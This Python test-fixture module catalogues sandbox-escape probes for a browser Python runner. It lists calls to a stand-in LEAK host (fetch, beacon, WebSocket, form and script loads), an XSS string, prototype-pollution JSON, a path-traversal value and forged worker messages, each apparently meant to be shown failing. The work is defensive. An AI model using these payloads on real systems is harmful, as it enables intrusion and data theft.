"""What hostile programs and links try. Each attack is one entry; `test_attacks.py` runs them and shows that they fail.

An attack that works returns something that is true: that it came through, or what it got hold of.
"""

from __future__ import annotations

# From the program's own place, the worker: Python that reaches for the browser. Bodies of `async def`; `js` and `to` (a
# JavaScript object from keywords) are there, `SITE` and `LEAK` are addresses: the latter's server notes who calls.
PROGRAM: dict[str, str] = {
    "localStorage": "js.localStorage.setItem('a', 'b'); return js.localStorage.getItem('a')",
    "sessionStorage": "js.sessionStorage.setItem('a', 'b'); return True",
    "cookies": "js.document.cookie = 'a=b'; return True",
    "the cookie store": "await js.cookieStore.set('a', 'b'); return True",
    "IndexedDB": """
        request = js.indexedDB.open('loot')
        done = asyncio.get_running_loop().create_future()
        request.onsuccess = lambda *_: done.set_result(True)
        request.onerror = lambda *_: done.set_result(False)
        return await done""",
    "the caches": "return bool(await js.caches.keys()) or bool(await js.caches.open('loot'))",
    "the packages' cache": "return bool(await js.caches.match('https://pypi.org/simple/anyio/'))",
    "the private file system": "return bool(await js.navigator.storage.getDirectory())",
    "persistent storage": "return await js.navigator.storage.persist()",
    "locks": "return bool(await js.navigator.locks.query())",
    "a service worker": "await js.navigator.serviceWorker.register('/sw.js'); return True",
    "a shared worker": "return bool(js.SharedWorker.new(SITE + '/assets/x.js'))",
    "BroadcastChannel": "js.BroadcastChannel.new('loot').postMessage('here'); return True",
    "the parent": "return bool(js.parent.document)",
    "the top": "return bool(js.top.location)",
    "the opener": "return bool(js.opener.location)",
    "the document": "return bool(js.document.body)",
    "the page's address": "return SITE in str(js.location.href) or SITE in str(js.origin)",
    "navigation": "js.location.href = LEAK + '/navigated'; return False",
    "a popup": "js.open(LEAK + '/popup'); return True",
    "a download": "js.document.createElement('a').click(); return True",
    "a notification": "return js.Notification.permission == 'granted'",
    "fetch": "await js.fetch(LEAK + '/fetch'); return True",
    "fetch of the site": "return (await js.fetch(SITE + '/index.html')).status",
    "fetch without CORS": "await js.fetch(LEAK + '/nocors', to(mode='no-cors')); return True",
    "fetch that outlives": (
        "await js.fetch(LEAK + '/alive', to(method='POST', body='x', keepalive=True)); return True"
    ),
    "pyfetch": "from pyodide.http import pyfetch; await pyfetch(LEAK + '/pyfetch'); return True",
    "open_url": "from pyodide.http import open_url; open_url(LEAK + '/open_url'); return True",
    "XMLHttpRequest": """
        request = js.XMLHttpRequest.new()
        request.open('GET', LEAK + '/xhr', False)
        request.send()
        return True""",
    "WebSocket": """
        socket = js.WebSocket.new(LEAK.replace('http', 'ws') + '/socket')
        done = asyncio.get_running_loop().create_future()
        socket.onopen = lambda *_: done.set_result(True)
        socket.onerror = lambda *_: done.set_result(False)
        return await done""",
    "EventSource": """
        source = js.EventSource.new(LEAK + '/events')
        done = asyncio.get_running_loop().create_future()
        source.onopen = lambda *_: done.set_result(True)
        source.onerror = lambda *_: done.set_result(False)
        return await done""",
    "WebTransport": "await js.WebTransport.new(LEAK.replace('http:', 'https:')).ready; return True",
    "a font": "await js.FontFace.new('x', f'url({LEAK}/font)').load(); return True",
    "importScripts": "js.importScripts(LEAK + '/script'); return True",
    "a worker": "return bool(js.Worker.new(LEAK + '/worker'))",
    "a worker of a blob": """
        source = js.Blob.new(to_js([f"fetch('{LEAK}/nested')"]))
        return bool(js.Worker.new(js.URL.createObjectURL(source)))""",
    "eval": "return js.eval('1 + 1')",
    "Function": "return js.Function.new('return 1 + 1')()",
    "Function by its constructor": "return js.Object.constructor('return 1 + 1')()",
    "run_js": "from pyodide.code import run_js; return run_js('1 + 1')",
    "a timer of text": "js.setTimeout('fetch(0)', 0); await asyncio.sleep(0.01); return False",
    "a script of a blob": "return bool(await js.eval('import(\"data:text/javascript,1\")'))",
    "raw sockets": "await asyncio.open_connection('example.org', 80); return True",
    "urllib": "import urllib.request; urllib.request.urlopen(LEAK + '/urllib'); return True",
    "a process": "import subprocess; subprocess.run(['ls']); return True",
    "the real file system": "return os.path.exists('/usr/bin') or os.path.exists('/root')",
}

# From the frame itself, as if a stranger's code had come to run there: JavaScript, bodies of `async () =>`.
FRAME: dict[str, str] = {
    "storage": "localStorage.setItem('a', 'b'); return true",
    "storage of a session": "sessionStorage.setItem('a', 'b'); return true",
    "cookies": "document.cookie = 'loot=1'; return document.cookie.includes('loot')",
    "IndexedDB": """return new Promise((done) => {
        const request = indexedDB.open('loot');
        request.onsuccess = () => done(true);
        request.onerror = () => done(false);
    })""",
    "the caches": "return !!(await caches.open('loot'))",
    "the private file system": "return !!(await navigator.storage.getDirectory())",
    "locks": "return await navigator.locks.request('loot', () => true)",
    "a service worker": "return !!(await navigator.serviceWorker.getRegistrations())",
    "a shared worker": "return !!new SharedWorker('/assets/x.js')",
    "the parent's document": "return !!parent.document.body",
    "the parent's storage": "return !!parent.localStorage",
    "the parent's address": "return !!parent.location.href",
    "the top's address": "top.location.href = LEAK + '/top'; return false",
    "a link to the top": """const link = document.createElement('a');
        link.href = LEAK + '/link';
        link.target = '_top';
        document.documentElement.append(link);
        link.click();
        return false""",
    "a form": """const form = document.createElement('form');
        form.action = LEAK + '/form';
        form.method = 'post';
        document.documentElement.append(form);
        form.submit();
        return false""",
    "a popup": "return !!window.open(LEAK + '/popup')",
    "a dialog": "return confirm('hello')",
    "a download": """const link = document.createElement('a');
        link.href = URL.createObjectURL(new Blob(['loot']));
        link.download = 'loot.exe';
        document.documentElement.append(link);
        link.click();
        return false""",
    "its own address": "location.href = LEAK + '/away'; return false",
    "an image": """return new Promise((done) => {
        const image = new Image();
        image.onload = () => done(true);
        image.onerror = () => done(false);
        image.src = LEAK + '/image';
    })""",
    "a frame": """const frame = document.createElement('iframe');
        frame.src = LEAK + '/frame';
        document.documentElement.append(frame);
        return false""",
    "a script": """const script = document.createElement('script');
        script.src = LEAK + '/script';
        document.documentElement.append(script);
        return false""",
    "an inline script": """const script = document.createElement('script');
        script.textContent = 'self.inline = true';
        document.documentElement.append(script);
        return !!self.inline""",
    "an inline handler": """const image = new Image();
        image.setAttribute('onerror', 'self.handled = true');
        image.src = 'data:,';
        await new Promise((done) => setTimeout(done, 100));
        return !!self.handled""",
    "fetch": "await fetch(LEAK + '/frame-fetch', { mode: 'no-cors' }); return true",
    "fetch of the site": "return (await fetch(SITE + '/index.html')).ok",
    "a beacon": "navigator.sendBeacon(LEAK + '/beacon', 'x'); return false",
    "a peer": "const peer = new RTCPeerConnection(); await peer.createOffer(); return false",
    "full screen": "await document.documentElement.requestFullscreen(); return true",
    "the camera": "return !!(await navigator.mediaDevices.getUserMedia({ video: true }))",
    "the clipboard": "return (await navigator.clipboard.readText()) !== undefined",
    "the position": """return new Promise((done) =>
        navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)))""",
}

# What works where the sandbox is taken away: a suite that doesn't see these sees nothing.
WITHOUT_SANDBOX = {
    "program": {
        "IndexedDB",
        "the caches",
        "the private file system",
        "locks",
        "XMLHttpRequest",
    },
    "frame": {
        "storage",
        "cookies",
        "IndexedDB",
        "the caches",
        "the private file system",
        "a service worker",
        "the parent's document",
        "the parent's storage",
        "a popup",
        "an inline script",
        "an inline handler",
        "fetch",
        "fetch of the site",
    },
}

# Messages that no worker of ours sends, as JavaScript objects made in Python; each ends the run.
FORGED: dict[str, str] = {
    "no type": "to(a=1)",
    "no object": "'ready'",
    "an unknown type": "to(type='constructor')",
    "a field of another type": "to(type='installing', detail=to(length=3))",
    "a name too long": "to(type='broken', message='x' * 100_000)",
    "bytes that are no trace": "to(type='batch', frame=js.ArrayBuffer.new(64))",
    "a trace that promises more than it has": "to(type='batch', frame=trace(b'{}', rows=1_000_000))",
    "tables that pollute": 'to(type=\'batch\', frame=trace(b\'{"codes": {"__proto__": {"polluted": 1}}}\'))',
    "more at once than the page takes": "to(type='batch', frame=js.ArrayBuffer.new(200_000_000))",
    "no plain object": "js.Map.new()",
}

# Messages that a worker of ours sends at other times: nothing comes of them while a program runs.
OUT_OF_TURN: list[str] = [
    "to(type='ready', python='<b>6.66</b>', jspi=True, restored=True)",
    "to(type='installed', requirements=['loot==6.66'], loosened=True)",
    "to(type='installing', detail='<b>installing</b>')",
    "to(type='fetch', id=1, url='https://pypi.org/simple/loot/')",
    "to(type='fetch', id=2, url=LEAK + '/broker')",
    "to(type='want', name='../../secret')",
    "to(type='want', name='__proto__')",
    "to(type='analysed')",
]

EVIL = """<img src=x onerror="window.owned=1"><script>window.owned=1</script>'"`${window.owned=1}"""

# Every text that the page shows of a run, hostile.
TEXTS = """\
import asyncio, sys, warnings
evil = EVIL

async def main():
    lock = asyncio.Lock()
    me = asyncio.current_task()
    me.set_name(evil)

    def callback(): pass
    callback.__qualname__ = callback.__name__ = evil

    async def worker():
        async with lock:
            await asyncio.sleep(0.2)
    worker.__qualname__ = worker.__name__ = evil

    loop = asyncio.get_running_loop()
    loop.call_soon(callback)
    loop.call_later(0.05, callback)
    tasks = [asyncio.create_task(worker(), name=f"{n} {evil}") for n in range(2)]
    future = type(evil, (asyncio.Future,), {})()
    tasks.append(asyncio.create_task(asyncio.wait_for(future, 0.1), name=evil))
    tasks[1].cancel(evil)
    print(evil)
    print(evil, file=sys.stderr)
    warnings.warn(evil)
    await asyncio.gather(*tasks, return_exceptions=True)
    asyncio.create_task(asyncio.sleep(9), name=evil)
    code = compile("def inner():\\n    raise type(evil, (ValueError,), {})(evil)\\ninner()", evil, "exec")
    exec(code, {"evil": evil})

asyncio.run(main())
"""

# What a link may hold, beside the program: JSON for its object.
LINKS: dict[str, str] = {
    "a list": "[]",
    "null": "null",
    "a number": "1e999",
    "no code": "{}",
    "code that is none": '{"code": {"toString": "x"}}',
    "a clock that is none": '{"code": "1", "clock": EVIL}',
    "requirements that are markup": '{"code": "1", "requirements": [EVIL, EVIL]}',
    "requirements that are none": '{"code": "1", "requirements": {"length": 1e9}}',
    "an address to install from": '{"code": "1", "requirements": ["loot @ https://example.org/loot.whl"]}',
    "events beyond all": '{"code": "1", "at": 1e308, "seed": -1e308, "pace": 1e999}',
    "a task that is markup": '{"code": "1", "task": EVIL, "view": EVIL, "schedule": EVIL}',
    "a polluted prototype": '{"code": "1", "__proto__": {"owned": 1}, "constructor": {"prototype": {"owned": 1}}}',
    "code that is markup": '{"code": EVIL}',
    "a hall of mirrors": '{"code": "1", "view": ' + "[" * 20_000 + "]" * 20_000 + "}",
    "half of a character": '{"code": "\\ud800", "example": "../../etc/passwd"}',
}
